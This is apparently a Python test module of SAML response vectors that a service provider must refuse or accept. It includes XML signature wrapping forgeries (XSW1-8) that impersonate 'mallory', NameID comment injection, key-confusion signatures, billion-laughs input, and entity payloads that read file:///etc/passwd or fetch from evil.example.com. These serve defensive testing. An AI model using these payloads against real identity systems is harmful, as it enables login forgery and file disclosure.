"""SAML responses that must be refused, by the name of what is wrong with them, and some that must be taken.

Each differs from an ordinary response in one thing. They are texts of XML, made when first asked for.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Mapping
from copy import deepcopy
from functools import partial

from lxml import etree

from tests.support.saml import (
    ASSERTION_ID,
    DSIG,
    ENTITY_ID,
    ENVELOPED,
    EXCLUSIVE,
    HMAC_SHA256,
    INCLUSIVE,
    ISSUED,
    PROTOCOL,
    RECIPIENT,
    RESPONSE_ID,
    RSA_SHA1,
    SAML,
    SHA1,
    assertion,
    certificate,
    moment,
    response,
    signed,
)

Edit = Callable[[etree._Element], None]
Vectors = Mapping[str, tuple[Callable[[], str], str]]
"""How each is made, and words of the refusal."""

NS = {"saml": SAML, "samlp": PROTOCOL, "ds": DSIG}
ONE_ASSERTION = "exactly one Assertion"
CHANGED = "what it signed was changed"


def ordinary() -> str:
    """Return a response whose assertion is signed."""
    return signed(response(assertion()))


def whole() -> str:
    """Return a response that is signed as a whole."""
    return signed(response(assertion()), RESPONSE_ID)


def both() -> str:
    """Return a response that is signed, around an assertion that is signed."""
    return signed(ordinary(), RESPONSE_ID)


def edited(document: str, edit: Edit) -> str:
    """Return *document* as *edit* leaves it."""
    root = etree.fromstring(document)
    edit(root)
    text: str = etree.tostring(root, encoding="unicode")
    return text


def find(root: etree._Element, path: str) -> etree._Element:
    """Return the first element at *path* below *root*."""
    found = root.find(f".//{path}", NS)
    assert found is not None, path
    return found


def _replaced(old: str, new: str, document: Callable[[], str] = ordinary) -> str:
    before = document()
    assert old in before
    return before.replace(old, new, 1)


def _signed_after(old: str, new: str) -> str:
    """Return a response in whose assertion the identity provider itself wrote *new* for *old*."""
    assert old in assertion()
    return signed(response(assertion().replace(old, new, 1)))


# -- wrapping: the attacks of "On Breaking SAML" by their numbers --------------------------------------


def _evil(element: etree._Element, identifier: str = "_evil") -> etree._Element:
    """Return a copy of *element* that is about mallory, and has no signature of its own."""
    copy = deepcopy(element)
    copy.set("ID", identifier)
    find(copy, "saml:NameID").text = "mallory"
    copy.remove(find(copy, "ds:Signature"))
    return copy


def _xsw1(root: etree._Element) -> None:
    """The signed response inside the signature of a forged one."""
    original = deepcopy(root)
    original.remove(find(original, "ds:Signature"))
    _forge(root)
    find(root, "ds:Signature").append(original)


def _xsw2(root: etree._Element) -> None:
    """The signed response before the signature, which is detached."""
    original = deepcopy(root)
    original.remove(find(original, "ds:Signature"))
    _forge(root)
    find(root, "ds:Signature").addprevious(original)


def _forge(root: etree._Element) -> None:
    root.set("ID", "_evil_response")
    find(root, "saml:Assertion").set("ID", "_evil")
    find(root, "saml:NameID").text = "mallory"


def _xsw3(root: etree._Element) -> None:
    """A forged assertion before the signed one."""
    original = find(root, "saml:Assertion")
    original.addprevious(_evil(original))


def _xsw4(root: etree._Element) -> None:
    """A forged assertion around the signed one."""
    original = find(root, "saml:Assertion")
    evil = _evil(original)
    original.addprevious(evil)
    evil.append(original)


def _xsw5(root: etree._Element) -> None:
    """A forged assertion with the signature, and the original at the end."""
    root.append(_taken_over(root))


def _xsw6(root: etree._Element) -> None:
    """A forged assertion with the signature, which has the original in it."""
    find(root, "ds:Signature").append(_taken_over(root))


def _taken_over(root: etree._Element) -> etree._Element:
    """Forge the assertion that has the signature, and return the original without it."""
    evil = find(root, "saml:Assertion")
    original = deepcopy(evil)
    original.remove(find(original, "ds:Signature"))
    evil.set("ID", "_evil")
    find(evil, "saml:NameID").text = "mallory"
    return original


def _xsw7(root: etree._Element) -> None:
    """A forged assertion in Extensions, which may hold anything, before the signed one."""
    original = find(root, "saml:Assertion")
    extensions = etree.Element(f"{{{PROTOCOL}}}Extensions")
    extensions.append(_evil(original))
    find(root, "samlp:Status").addprevious(extensions)


def _xsw8(root: etree._Element) -> None:
    """The original in an Object of the signature of a forged one."""
    kept = etree.SubElement(find(root, "ds:Signature"), f"{{{DSIG}}}Object")
    kept.append(_taken_over(root))


WRAPPED: Mapping[str, Callable[[], str]] = {
    "XSW1": lambda: edited(whole(), _xsw1),
    "XSW2": lambda: edited(whole(), _xsw2),
    "XSW3": lambda: edited(ordinary(), _xsw3),
    "XSW4": lambda: edited(ordinary(), _xsw4),
    "XSW5": lambda: edited(ordinary(), _xsw5),
    "XSW6": lambda: edited(ordinary(), _xsw6),
    "XSW7": lambda: edited(ordinary(), _xsw7),
    "XSW8": lambda: edited(ordinary(), _xsw8),
}


# -- threat 32: what is signed, and what is read -------------------------------------------------------


def _moved_to(path: str) -> str:
    return edited(ordinary(), lambda root: find(root, path).append(find(root, "ds:Signature")))


def _moved_to_the_response(root: etree._Element) -> None:
    root.insert(1, find(root, "ds:Signature"))


def _in_another_namespace(root: etree._Element) -> None:
    """A second assertion whose namespace is nearly the right one."""
    evil = _evil(find(root, "saml:Assertion"))
    for element in evil.iter():
        element.tag = element.tag.replace(SAML, f"{SAML}/")
    find(root, "saml:Assertion").addprevious(evil)


def _hidden(root: etree._Element) -> None:
    etree.SubElement(find(root, "ds:Signature"), f"{{{DSIG}}}Object").text = "hidden"


def _twice(path: str, root: etree._Element) -> None:
    found = find(root, path)
    found.addnext(deepcopy(found))


SIGNED = 'ID="_a1"'

FORGED: Vectors = {
    "two assertions": (lambda: signed(response(assertion() + assertion(identifier="_a2"))), ONE_ASSERTION),
    "two signed assertions": (
        lambda: signed(signed(response(assertion() + assertion(identifier="_a2"))), "_a2"),
        ONE_ASSERTION,
    ),
    "no assertion": (lambda: signed(response(""), RESPONSE_ID), ONE_ASSERTION),
    "an assertion in another": (
        lambda: _signed_after(
            "</saml:Assertion>", f"<saml:Advice>{assertion(identifier='_a2')}</saml:Advice></saml:Assertion>"
        ),
        "exactly one assertion",
    ),
    "changed text": (lambda: _replaced(">alice<", ">admin<"), CHANGED),
    "changed text in a response that is signed": (lambda: _replaced(">alice<", ">admin<", whole), CHANGED),
    "changed text in an assertion that is signed twice": (lambda: _replaced(">alice<", ">admin<", both), CHANGED),
    "a changed response around a good assertion": (
        lambda: _replaced("2023-11-14T22:13:20Z", "2023-11-14T22:13:21Z", both),
        CHANGED,
    ),
    "changed namespace": (lambda: ordinary().replace(SAML, f"{SAML}/"), ONE_ASSERTION),
    "a second assertion in another namespace": (
        lambda: edited(ordinary(), _in_another_namespace),
        "exactly one assertion",
    ),
    "signature moved to the response": (
        lambda: edited(ordinary(), _moved_to_the_response),
        "not over what it stands in",
    ),
    "signature moved into the subject": (lambda: _moved_to("saml:Subject"), "where none belongs"),
    "signature moved into the status": (lambda: _moved_to("samlp:Status"), "where none belongs"),
    "signature over the whole document": (lambda: _replaced('URI="#_a1"', 'URI=""'), "not over what it stands in"),
    "signature over something else": (
        lambda: _replaced('URI="#_a1"', f'URI="#{RESPONSE_ID}"'),
        "not over what it stands in",
    ),
    "two signatures": (lambda: edited(ordinary(), partial(_twice, "ds:Signature")), "signed twice"),
    "two references": (lambda: edited(ordinary(), partial(_twice, "ds:Reference")), "exactly one reference"),
    "two values": (lambda: edited(ordinary(), partial(_twice, "ds:SignatureValue")), "other parts than SignedInfo"),
    "an object in the signature": (lambda: edited(ordinary(), _hidden), "other parts than SignedInfo"),
    "the ID of the assertion twice": (
        lambda: ordinary().replace(f'ID="{RESPONSE_ID}"', SIGNED),
        "an ID is there twice",
    ),
    "the ID under another name": (
        lambda: _replaced("<samlp:Status>", f'<samlp:Status Id="{ASSERTION_ID}">'),
        "an ID is there twice",
    ),
    "the ID as xml:id": (
        lambda: _replaced("<samlp:Status>", f'<samlp:Status xml:id="{ASSERTION_ID}">'),
        "an ID is there twice",
    ),
    "comment in the NameID": (lambda: _replaced(">alice<", ">ali<!-- -->ce<"), "a comment"),
    "comment that the provider signed": (lambda: _signed_after(">alice<", ">alice<!-- -->.evil<"), "a comment"),
    "instruction in the NameID": (lambda: _replaced(">alice<", ">ali<?evil?>ce<"), "a processing instruction"),
    "CDATA in the NameID": (lambda: _replaced(">alice<", "><![CDATA[alice]]><"), "CDATA"),
    "relative namespace": (lambda: _replaced("<samlp:Status>", '<samlp:Status xmlns:x="evil">'), "relative namespace"),
    "relative namespace in what is signed": (
        lambda: _replaced("<saml:Subject>", '<saml:Subject xmlns:x="evil">'),
        "relative namespace",
    ),
    "digest of nothing": (
        lambda: edited(ordinary(), lambda root: setattr(find(root, "ds:DigestValue"), "text", _EMPTY)),
        CHANGED,
    ),
    "no digest": (
        lambda: edited(ordinary(), lambda root: setattr(find(root, "ds:DigestValue"), "text", "")),
        CHANGED,
    ),
    "a response whose ID is none": (lambda: _replaced(f'ID="{RESPONSE_ID}"', 'ID="1"'), "an ID is none"),
    "a response without ID": (lambda: _replaced(f' ID="{RESPONSE_ID}"', ""), "an ID is none"),
    "a response with another attribute": (
        lambda: _replaced("<samlp:Response ", '<samlp:Response Evil="1" '),
        "attributes that a response has not",
    ),
    "a response with something else in it": (
        lambda: _replaced("<samlp:Status>", '<x:Evil xmlns:x="urn:x"/><samlp:Status>'),
        "parts that a response has not",
    ),
    "a response in another order": (
        lambda: edited(ordinary(), lambda root: root.append(find(root, "samlp:Status"))),
        "in another order",
    ),
    "inclusive canonicalization": (
        lambda: signed(response(assertion()), transforms=(ENVELOPED, INCLUSIVE)),
        "transformed",
    ),
    "inclusive canonicalization of the signature": (
        lambda: signed(response(assertion()), canonicalization=INCLUSIVE),
        "not canonicalized exclusively",
    ),
    "no canonicalization": (lambda: signed(response(assertion()), transforms=(ENVELOPED,)), "transformed"),
    "another transform": (
        lambda: signed(
            response(assertion()),
            transforms=(ENVELOPED, EXCLUSIVE, "http://www.w3.org/TR/1999/REC-xpath-19991116"),
        ),
        "transformed",
    ),
    "style sheet": (
        lambda: signed(response(assertion()), transforms=(ENVELOPED, "http://www.w3.org/TR/1999/REC-xslt-19991116")),
        "transformed",
    ),
}

_EMPTY = base64.b64encode(bytes.fromhex("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")).decode()


# -- threat 33: who signed, and for whom ---------------------------------------------------------------


def _with_key_info(root: etree._Element) -> None:
    """The certificate of whoever signed, in the signature."""
    signature = find(root, "ds:Signature")
    data = etree.SubElement(etree.SubElement(signature, f"{{{DSIG}}}KeyInfo"), f"{{{DSIG}}}X509Data")
    etree.SubElement(data, f"{{{DSIG}}}X509Certificate").text = certificate("two")


def _with_key_value(root: etree._Element) -> None:
    """A public key of RSA in the signature, which it was not made by."""
    value = etree.SubElement(etree.SubElement(find(root, "ds:Signature"), f"{{{DSIG}}}KeyInfo"), f"{{{DSIG}}}KeyValue")
    key = etree.SubElement(value, f"{{{DSIG}}}RSAKeyValue")
    for part, number in {"Modulus": "AQAB" * 64, "Exponent": "AQAB"}.items():
        etree.SubElement(key, f"{{{DSIG}}}{part}").text = number


ENCRYPTED = (
    f'<saml:EncryptedAssertion xmlns:saml="{SAML}"><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" '
    'Type="http://www.w3.org/2001/04/xmlenc#Element"><xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue>'
    "</xenc:CipherData></xenc:EncryptedData></saml:EncryptedAssertion>"
)
CONFIRMED = f'NotOnOrAfter="{moment(ISSUED + 300)}" Recipient="{RECIPIENT}"'

UNTRUSTED: Vectors = {
    "unsigned": (lambda: response(assertion()), "neither the assertion nor the response is signed"),
    "signed by another key": (lambda: signed(response(assertion()), signer="two"), "not made by a certificate"),
    "signed by a key that it brings along": (
        lambda: edited(signed(response(assertion()), signer="two"), _with_key_info),
        "not made by a certificate",
    ),
    "a good assertion in a response that another key signed": (
        lambda: signed(ordinary(), RESPONSE_ID, signer="two"),
        "not made by a certificate",
    ),
    "an assertion that another key signed in a good response": (
        lambda: signed(signed(response(assertion()), signer="two"), RESPONSE_ID),
        "not made by a certificate",
    ),
    "HMAC with the certificate as its key": (
        lambda: signed(response(assertion()), method=HMAC_SHA256, secret=base64.b64decode(certificate())),
        "not made by RSA or ECDSA",
    ),
    "SHA-1 signature": (
        lambda: signed(response(assertion()), signer="rsa-2048", method=RSA_SHA1),
        "not made by RSA or ECDSA with SHA-256",
    ),
    "SHA-1 digest": (lambda: signed(response(assertion()), digest=SHA1), "not made by SHA-256"),
    "encrypted": (lambda: response(ENCRYPTED), "is encrypted"),
    "encrypted in a signed response": (lambda: signed(response(ENCRYPTED), RESPONSE_ID), "is encrypted"),
    "encrypted before one that is signed": (lambda: signed(response(ENCRYPTED + assertion())), "is encrypted"),
    "encrypted name": (
        lambda: _signed_after("<saml:SubjectConfirmation ", "<saml:EncryptedID/><saml:SubjectConfirmation "),
        "is encrypted",
    ),
    "another issuer": (
        lambda: signed(response(assertion(issuer="https://evil.example.com"))).replace(
            f">{ENTITY_ID}<", ">https://evil.example.com<", 1
        ),
        "Issuer not present in specified provider",
    ),
    "another issuer of the response": (
        lambda: _replaced(f">{ENTITY_ID}<", ">https://evil.example.com<"),
        "of another issuer than the response",
    ),
    "another audience": (
        lambda: signed(response(assertion(audiences=["urn:example:other"]))),
        "does not contain the required audience",
    ),
    "no audience": (
        lambda: _signed_after(
            "<saml:AudienceRestriction><saml:Audience>urn:amazon:webservices</saml:Audience></saml:AudienceRestriction>",
            "",
        ),
        "does not contain the required audience",
    ),
    "a further restriction to somebody else": (
        lambda: _signed_after(
            "</saml:Conditions>",
            "<saml:AudienceRestriction><saml:Audience>urn:example:other</saml:Audience></saml:AudienceRestriction>"
            "</saml:Conditions>",
        ),
        "does not contain the required audience",
    ),
    "a condition that nobody knows": (
        lambda: _signed_after("</saml:Conditions>", '<x:Weather xmlns:x="urn:example:x"/></saml:Conditions>'),
        "a condition that is not understood",
    ),
    "no conditions": (
        lambda: signed(response(_without_conditions())),
        "exactly one Conditions",
    ),
    "another recipient": (
        lambda: signed(response(assertion(recipient="https://other.example.com/saml"))),
        "(Recipient)",
    ),
    "no recipient": (lambda: _signed_after(f' Recipient="{RECIPIENT}"', ""), "(Recipient)"),
    "another destination": (
        lambda: _replaced(f'Destination="{RECIPIENT}"', 'Destination="https://other.example.com/saml"'),
        "(Destination)",
    ),
    "an answer to a request": (lambda: _signed_after(CONFIRMED, f'InResponseTo="_q" {CONFIRMED}'), "(InResponseTo)"),
    "a response to a request": (
        lambda: _replaced("<samlp:Response ", '<samlp:Response InResponseTo="_q" '),
        "(InResponseTo)",
    ),
    "two confirmations": (
        lambda: signed(edited(response(assertion()), partial(_twice, "saml:SubjectConfirmation"))),
        "exactly one SubjectConfirmation",
    ),
    "no confirmation data": (
        lambda: _signed_after(f"<saml:SubjectConfirmationData {CONFIRMED}/>", ""),
        "exactly one SubjectConfirmationData",
    ),
    "the holder of a key": (lambda: _signed_after("cm:bearer", "cm:holder-of-key"), "as the bearer"),
    "a confirmation that begins": (
        lambda: _signed_after(CONFIRMED, f'NotBefore="{moment(ISSUED)}" {CONFIRMED}'),
        "a NotBefore",
    ),
    "a confirmation without end": (
        lambda: _signed_after(CONFIRMED, f'Recipient="{RECIPIENT}"'),
        "NotOnOrAfter of its confirmation",
    ),
    "no authentication": (lambda: signed(response(_without_authentication())), "exactly one AuthnStatement"),
    "a version before": (lambda: _signed_after('Version="2.0"', 'Version="1.1"'), "not of SAML 2.0"),
    "a response of a version before": (
        lambda: _replaced('Version="2.0"', 'Version="1.1"'),
        "not a Response of SAML 2.0",
    ),
    "an issuer that is no entity": (
        lambda: _signed_after("<saml:Issuer>", '<saml:Issuer Format="urn:example:other">'),
        "not an entity id",
    ),
    "no name": (lambda: signed(response(assertion(name_id=" "))), "the NameID does not have"),
    "a name with an element": (
        lambda: _signed_after(">alice<", ">al<x xmlns='urn:x'/>ice<"),
        "the NameID is not a text",
    ),
    "a time that is none": (
        lambda: _signed_after(f'IssueInstant="{moment(ISSUED)}"', 'IssueInstant="now"'),
        "IssueInstant",
    ),
    "no time of issue": (lambda: _signed_after(f' IssueInstant="{moment(ISSUED)}"', ""), "IssueInstant"),
    "not valid yet": (lambda: signed(response(assertion(issued=ISSUED + 3_600))), "not valid yet"),
}


def _without_conditions() -> str:
    return _without("saml:Conditions")


def _without_authentication() -> str:
    return _without("saml:AuthnStatement")


def _without(path: str) -> str:
    def drop(root: etree._Element) -> None:
        root.remove(find(root, path))

    return edited(assertion(), drop)


EXPIRED: Mapping[str, Callable[[], str]] = {
    "issued too long ago": lambda: signed(
        response(assertion(issued=ISSUED - 600).replace(moment(ISSUED - 300), moment(ISSUED + 3_600)))
    ),
    "Conditions over": lambda: _signed_after(
        f'NotOnOrAfter="{moment(ISSUED + 300)}"><saml:Aud', f'NotOnOrAfter="{moment(ISSUED - 61)}"><saml:Aud'
    ),
    "confirmation over": lambda: _signed_after(CONFIRMED, CONFIRMED.replace(moment(ISSUED + 300), moment(ISSUED - 61))),
    "session over": lambda: signed(response(assertion(session=f' SessionNotOnOrAfter="{moment(ISSUED)}"'))),
}
"""The upper bounds in time, each alone."""


# -- threat 35: documents ------------------------------------------------------------------------------

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def _begun(prologue: str) -> str:
    return prologue + ordinary()


DOCUMENTS: Vectors = {
    "document type": (lambda: _begun("<!DOCTYPE Response>"), "a document type"),
    "billion laughs": (
        lambda: _begun(f'<!DOCTYPE r [<!ENTITY l0 "ha">{_LAUGHS}]>').replace(">alice<", ">&l9;<"),
        "a document type",
    ),
    "external entity": (
        lambda: _begun('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace(">alice<", ">&x;<"),
        "a document type",
    ),
    "parameter entity": (
        lambda: _begun('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example.com/x">%x;]>'),
        "a document type",
    ),
    "external document type": (
        lambda: _begun('<!DOCTYPE r SYSTEM "http://evil.example.com/x">'),
        "a document type",
    ),
    "entity in an attribute": (
        lambda: _begun('<!DOCTYPE r [<!ENTITY x "_a1">]>').replace(SIGNED, 'ID="&x;"', 1),
        "a document type",
    ),
    "entity that nobody declared": (lambda: _replaced(">alice<", ">&evil;<"), "not well-formed"),
    "style sheet instruction": (lambda: _begun('<?xml-stylesheet href="evil.xsl"?>'), "a processing instruction"),
    "another encoding": (lambda: _begun('<?xml version="1.0" encoding="UTF-16"?>'), "a processing instruction"),
    "another version of XML": (lambda: _begun('<?xml version="1.1" encoding="UTF-8"?>'), "a processing instruction"),
    "byte order mark": (lambda: _begun("\ufeff"), "a byte order mark"),
    "comment before": (lambda: _begun("<!-- -->"), "a comment"),
    "comment after": (lambda: ordinary() + "<!-- -->", "a comment"),
    "not well-formed": (lambda: ordinary()[:-1], "not well-formed"),
    "something after": (lambda: ordinary() + "<x/>", "not well-formed"),
    "nothing": (lambda: "", "not well-formed"),
    "something else": (lambda: "<Response/>", "not a Response of SAML 2.0"),
    "nested too deep": (
        lambda: _replaced("</samlp:Status>", "<x>" * 500 + "</x>" * 500 + "</samlp:Status>"),
        "not well-formed",
    ),
}

TAKEN: Mapping[str, Callable[[], str]] = {
    "the assertion is signed": ordinary,
    "the response is signed": whole,
    "both are signed": both,
    "there is a declaration": lambda: _begun('<?xml version="1.0" encoding="UTF-8"?>\n'),
    "there is white space": lambda: signed(response(f"\n  {assertion()}\n")),
    "inherited namespaces are listed": lambda: signed(
        response(assertion(), attributes=f' xmlns:xs="http://www.w3.org/2001/XMLSchema" Destination="{RECIPIENT}"')
    ),
    "the certificate of another key is in the signature": lambda: edited(ordinary(), _with_key_info),
    "another key is in the signature": lambda: edited(ordinary(), _with_key_value),
    "a session ends": lambda: signed(response(assertion(session=f' SessionNotOnOrAfter="{moment(ISSUED + 3_600)}"'))),
}
